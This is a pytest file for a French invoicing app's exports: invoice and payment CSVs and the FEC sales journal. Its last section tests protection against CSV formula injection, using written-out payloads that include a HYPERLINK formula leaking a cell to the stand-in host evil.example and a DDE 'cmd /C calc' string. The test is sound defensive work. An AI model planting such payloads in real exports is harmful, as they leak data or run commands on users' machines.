"""Exports: invoices and payments CSV, and the sales journal in the FEC's 18 columns."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
import time_machine
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from facturier.billing import exports
from facturier.billing.models import Invoice, Payment
from facturier.billing.services import (
    LineData,
    credit_note_create,
    customer_update,
    invoice_create,
    invoice_issue,
    payment_record,
)
from facturier.core.forecast import ForecastItem
from tests.actors import SYS

D = Decimal
NOV = datetime(2026, 11, 28, 10, tzinfo=UTC)
PERIOD = {"start": date(2026, 11, 1), "end": date(2026, 11, 30)}


def _issue(make_draft, lines, **kwargs):
    with time_machine.travel(NOV, tick=False):
        return invoice_issue(make_draft(lines, **kwargs), actor=SYS)


@pytest.fixture
def mixed(make_draft):
    """Services at 20 % and 10 %, goods at 5.5 %, a discount line; then a partial credit."""
    invoice = _issue(
        make_draft,
        [
            LineData(description="Maintenance", quantity=D(3), unit_price=D("99.99")),
            LineData(description="Formation", quantity=D(1), unit_price=D(500), vat_code="FR-10"),
            LineData(description="Livres", quantity=D(7), unit_price=D("12.35"),
                     vat_code="FR-5.5", kind="goods"),
            LineData(description="Remise", quantity=D(-1), unit_price=D(50)),
        ],
    )  # fmt: skip
    with time_machine.travel(NOV, tick=False):
        note = credit_note_create(
            invoice,
            actor=SYS,
            lines=[LineData(description="Geste", quantity=D(1), unit_price=D(100))],
        )
    return invoice, note


def _journal_table(company, **period):
    text = "".join(exports.journal_lines(exports.journal_rows(
        exports.journal_entries(company, **period))))  # fmt: skip
    lines = text.split("\r\n")
    assert lines[-1] == ""
    return [line.split("|") for line in lines[:-1]]


def _dec(text):
    return D(text.replace(",", "."))


def test_journal_header_columns_and_formats(company, mixed):
    invoice, note = mixed
    table = _journal_table(company, **PERIOD)
    assert table[0] == exports.FEC_HEADER
    assert len(exports.FEC_HEADER) == 18
    rows = table[1:]
    assert all(len(row) == 18 for row in rows)
    by_piece = {}
    for row in rows:
        by_piece.setdefault(row[8], []).append(row)
    first = by_piece[invoice.number]
    # Customer debit with the auxiliary account, then 706, 707, VAT per rate.
    assert [r[4] for r in first] == ["411000", "706000", "707000", "445710", "445710", "445710"]
    assert first[0][6:8] == ["C00001", "Boulangerie Martin"]
    assert first[0][11:13] == [f"{invoice.total_gross:.2f}".replace(".", ","), "0,00"]
    assert [r[5] for r in first[3:]] == [
        "TVA collectée 5,5 %", "TVA collectée 10 %", "TVA collectée 20 %",
    ]  # fmt: skip
    assert {r[3] for r in rows} == {"20261128"} == {r[9] for r in rows} == {r[15] for r in rows}
    assert first[0][:2] == ["VE", "Ventes"]
    assert first[0][10] == f"Facture {invoice.number} Boulangerie Martin"
    # The credit note is the reverse entry: customer credited, revenue and VAT debited.
    credit = by_piece[note.number]
    assert credit[0][11:13] == ["0,00", "120,00"]
    assert [(r[4], r[11], r[12]) for r in credit[1:]] == [
        ("706000", "100,00", "0,00"), ("445710", "20,00", "0,00"),
    ]  # fmt: skip
    # Entries numbered in issue order, one number per document, no gap.
    assert [int(first[0][2]), int(credit[0][2])] == [invoice.chain_index, note.chain_index]
    assert note.chain_index == invoice.chain_index + 1


def test_every_entry_balances_and_totals_match(company, mixed):
    invoice, note = mixed
    rows = _journal_table(company, **PERIOD)[1:]
    entries: dict[str, D] = {}
    for row in rows:
        debit, credit = _dec(row[11]), _dec(row[12])
        assert debit >= 0 and credit >= 0 and not (debit and credit)
        entries[row[2]] = entries.get(row[2], D(0)) + debit - credit
    assert set(entries.values()) == {D(0)}
    vat_credits = sum(_dec(r[12]) - _dec(r[11]) for r in rows if r[4].startswith("44571"))
    assert vat_credits == invoice.total_vat - note.total_vat
    revenue = sum(_dec(r[12]) - _dec(r[11]) for r in rows if r[4][:3] in ("706", "707"))
    assert revenue == invoice.total_net - note.total_net
    goods = sum(_dec(r[12]) for r in rows if r[4] == "707000")
    assert goods == D("86.45")  # 7 × 12.35


def test_journal_period_bounds_and_drafts_left_out(company, make_draft):
    _issue(make_draft, None)
    make_draft()  # a draft is not in the books
    assert len(_journal_table(company, **PERIOD)) == 1 + 3
    december = {"start": date(2026, 12, 1), "end": date(2026, 12, 31)}
    assert _journal_table(company, **december) == [exports.FEC_HEADER]


def test_journal_keeps_the_customer_as_issued_and_cleans_separators(company, make_draft, customer):
    invoice = _issue(make_draft, None)
    customer_update(customer, legal_name="Nouveau | Nom")
    rows = _journal_table(company, **PERIOD)[1:]
    assert rows[0][7] == "Boulangerie Martin"
    line = next(exports.journal_lines([["a|b", "c\nd"]]))
    assert line == "a b|c d\r\n"
    tab = next(exports.journal_lines([["a\tb", "c"]], separator="\t"))
    assert tab == "a b\tc\r\n"
    with pytest.raises(ValueError, match="separator"):
        next(exports.journal_lines([["x"]], separator=";"))
    assert invoice.number in rows[0][10]


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    lines=st.lists(
        st.tuples(
            st.decimals(min_value=D("-5"), max_value=D(50), places=2).filter(lambda q: q != 0),
            st.decimals(min_value=D(0), max_value=D(999), places=2),
            st.sampled_from(["FR-20", "FR-10", "FR-5.5", "FR-2.1"]),
            st.sampled_from(["services", "goods"]),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_random_invoices_balance(company, customer, lines):
    data = [
        LineData(description="x", quantity=q, unit_price=p, vat_code=v, kind=k)
        for q, p, v, k in lines
    ]
    draft = invoice_create(actor=SYS, company=company, customer=customer, lines=data)
    if draft.total_gross <= 0:
        return  # nothing to issue: a negative invoice is a credit note's job
    with time_machine.travel(NOV, tick=False):
        invoice_issue(draft, actor=SYS)
    entries = list(exports.journal_entries(company, **PERIOD))
    assert all(entry.balance == 0 for entry in entries)
    issued = Invoice.objects.filter(status="issued")
    assert sum(e.lines[0].amount for e in entries) == sum(i.total_gross for i in issued)
    vat = sum(line.amount for e in entries for line in e.lines if line.account == "445710")
    assert -vat == sum(i.total_vat for i in issued)


def test_invoices_csv_french_and_iso(company, mixed, make_draft):
    invoice, _note = mixed
    make_draft()
    qs = Invoice.objects.filter(company=company).order_by("pk")
    text = "".join(exports.csv_lines(exports.invoice_rows(qs)))
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == exports.INVOICE_HEADER
    assert len(rows) == 4
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["number"] == invoice.number
    assert first["issue_date"] == "28/11/2026"
    assert first["total_gross"] == f"{invoice.total_gross:.2f}".replace(".", ",")
    assert first["payment_status"] == "partial"
    assert first["customer_code"] == "C00001"
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["type"] == "credit_note" and second["corrects"] == invoice.number
    draft = dict(zip(rows[0], rows[3], strict=True))
    assert draft["number"] == "" and draft["status"] == "draft"
    iso = "".join(exports.csv_lines(exports.invoice_rows(qs, style="iso"), style="iso"))
    iso_rows = list(csv.reader(io.StringIO(iso)))
    assert iso_rows[1][3] == "2026-11-28"
    assert iso_rows[1][12] == f"{invoice.total_gross:.2f}"


def test_payments_csv_with_allocations(company, customer, make_draft):
    a = _issue(make_draft, None)
    b = _issue(make_draft, None)
    payment_record(customer=customer, amount=D("300.00"), received_on=date(2026, 11, 20),
                   method="transfer", reference="VIR 42", actor=SYS)  # fmt: skip
    payment_record(customer=customer, amount=D("10.00"), received_on=date(2026, 10, 30),
                   method="cheque", actor=SYS)  # fmt: skip
    qs = exports.payments_for(company, start=date(2026, 11, 1), end=date(2026, 11, 30))
    rows = list(csv.reader(io.StringIO("".join(exports.csv_lines(exports.payment_rows(qs)))),
                           delimiter=";"))  # fmt: skip
    assert rows[0] == exports.PAYMENT_HEADER
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["received_on"] == "20/11/2026"
    assert (row["amount"], row["allocated"], row["unallocated"]) == ("300,00", "240,00", "60,00")
    assert row["invoices"] == f"{a.number} {b.number}"
    assert row["reference"] == "VIR 42"
    everything = exports.payments_for(company, start=None, end=None)
    assert everything.count() == 2


def test_exports_read_in_chunks_without_n_plus_one(
    company, make_draft, django_assert_max_num_queries, monkeypatch
):
    monkeypatch.setattr(exports, "CHUNK", 3)
    for _ in range(7):
        _issue(make_draft, None)
    qs = Invoice.objects.filter(company=company).order_by("pk")
    with django_assert_max_num_queries(6):
        assert len(list(exports.invoice_rows(qs))) == 8
    with django_assert_max_num_queries(8):  # 3 chunks: one query for documents, one for lines
        entries = list(exports.journal_entries(company, **PERIOD))
    assert len(entries) == 7


def test_filename(company):
    name = exports.journal_filename(company, **PERIOD)
    assert name == "732829320-journal-ventes-20261101-20261130.txt"


# --- cells a spreadsheet would run as formulas (OWASP "CSV injection") ---------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n@x", "'\n@x"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        # Numbers and dates stay what they are; so does a text that starts harmlessly.
        ("-12,50", "-12,50"),
        ("-3.00", "-3.00"),
        ("1234,56", "1234,56"),
        ("28/11/2026", "28/11/2026"),
        ("2026-11-28", "2026-11-28"),
        ("", ""),
        ("Boulangerie = pain", "Boulangerie = pain"),
        ("-", "'-"),
    ],
)
def test_spreadsheet_safe(cell, written):
    assert exports.spreadsheet_safe(cell) == written


def _csv(lines):
    return list(csv.reader(io.StringIO("".join(lines).lstrip("\ufeff")), delimiter=";"))


def test_formulas_are_written_as_text_in_every_export(company, customer, make_draft):
    customer_update(customer, legal_name=FORMULA, code="@SUM(1+1)")
    issued = _issue(make_draft, None, customer_po="+BC")
    make_draft()  # a draft shows the customer as it is now
    payment_record(customer=customer, amount=D("10.00"), received_on=date(2026, 11, 20),
                   method="transfer", reference="-cmd|' /C calc'!A0", actor=SYS)  # fmt: skip
    credit_note_create(issued, actor=SYS, lines=[LineData(description="x", unit_price=D(50))])
    invoices = _csv(exports.csv_file(exports.invoice_rows(
        Invoice.objects.filter(company=company).order_by("pk"))))  # fmt: skip
    for row in invoices[1:]:
        record = dict(zip(invoices[0], row, strict=True))
        assert (record["Client"], record["Code client"]) == ("'" + FORMULA, "'@SUM(1+1)")
    credit = dict(zip(invoices[0], invoices[3], strict=True))
    assert credit["Type"] == "avoir" and credit["Total TTC"] == "60,00"  # positive
    payments = _csv(exports.csv_file(exports.payment_rows(
        exports.payments_for(company, start=None, end=None))))  # fmt: skip
    paid = dict(zip(payments[0], payments[1], strict=True))
    assert paid["Référence"] == "'-cmd|' /C calc'!A0"
    assert (paid["Client"], paid["Montant"]) == ("'" + FORMULA, "10,00")
    journal = _journal_table(company, **PERIOD)
    for row in journal[1:]:
        assert not row[6] or row[6] == "'@SUM(1+1)"
        assert not row[7] or row[7] == "'" + FORMULA
    iso = list(csv.reader(io.StringIO("".join(exports.csv_file(exports.invoice_rows(
        Invoice.objects.filter(doc_type="credit_note"), style="iso"), style="iso")))))  # fmt: skip
    assert iso[1][6] == "'" + FORMULA


def test_negative_amounts_stay_numbers(company, make_draft):
    make_draft([LineData(description="-Remise", quantity=D(-1), unit_price=D(30))])
    rows = _csv(exports.csv_file(exports.invoice_rows(Invoice.objects.all())))
    draft = dict(zip(rows[0], rows[1], strict=True))
    assert (draft["Total HT"], draft["Total TTC"], draft["Reste dû"]) == (
        "-30,00", "-36,00", "-36,00",
    )  # fmt: skip
    rows = exports.invoice_rows(Invoice.objects.all(), style="iso")
    assert ",-30.00,-6.00,-36.00," in "".join(exports.csv_lines(rows, style="iso"))
    forecast = ForecastItem(date(2026, 12, 1), 7, "=Abonnement", "+Client", D("-10.00"),
                            D("-2.00"), date(2026, 12, 1), date(2026, 12, 31), False)  # fmt: skip
    [header, row] = _csv(exports.csv_file(exports.forecast_rows([forecast])))
    assert header == [exports.FRENCH_COLUMNS[name] for name in exports.FORECAST_HEADER]
    assert row[2:4] == ["'=Abonnement", "'+Client"]
    assert row[7:10] == ["-10,00", "-2,00", "-12,00"]


def test_the_french_csv_reads_in_french_and_the_international_one_for_machines(
    company, customer, make_draft
):
    """The French export had English column names and values (number;type;status…, paid,
    open): a French spreadsheet now reads French; the international style keeps the names
    scripts rely on."""
    issued = _issue(make_draft, None)
    payment_record(customer=customer, amount=issued.total_gross, received_on=date(2026, 11, 20),
                   method="cheque", actor=SYS)  # fmt: skip
    rows = _csv(exports.csv_file(exports.invoice_rows(Invoice.objects.all())))
    assert rows[0][:5] == ["Numéro", "Type", "Statut", "Date d'émission", "Échéance"]
    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["Type"], record["Statut"], record["État du règlement"]) == (
        "facture", "émise", "payée",
    )  # fmt: skip
    assert record["Contesté"] == "non"
    payments = _csv(exports.csv_file(exports.payment_rows(Payment.objects.all())))
    paid = dict(zip(payments[0], payments[1], strict=True))
    assert (paid["Moyen"], paid["Écriture"]) == ("chèque", "paiement")
    iso = list(csv.reader(io.StringIO("".join(exports.csv_file(
        exports.invoice_rows(Invoice.objects.all(), style="iso"), style="iso")))))  # fmt: skip
    assert iso[0] == exports.INVOICE_HEADER
    assert dict(zip(iso[0], iso[1], strict=True))["payment_status"] == "paid"
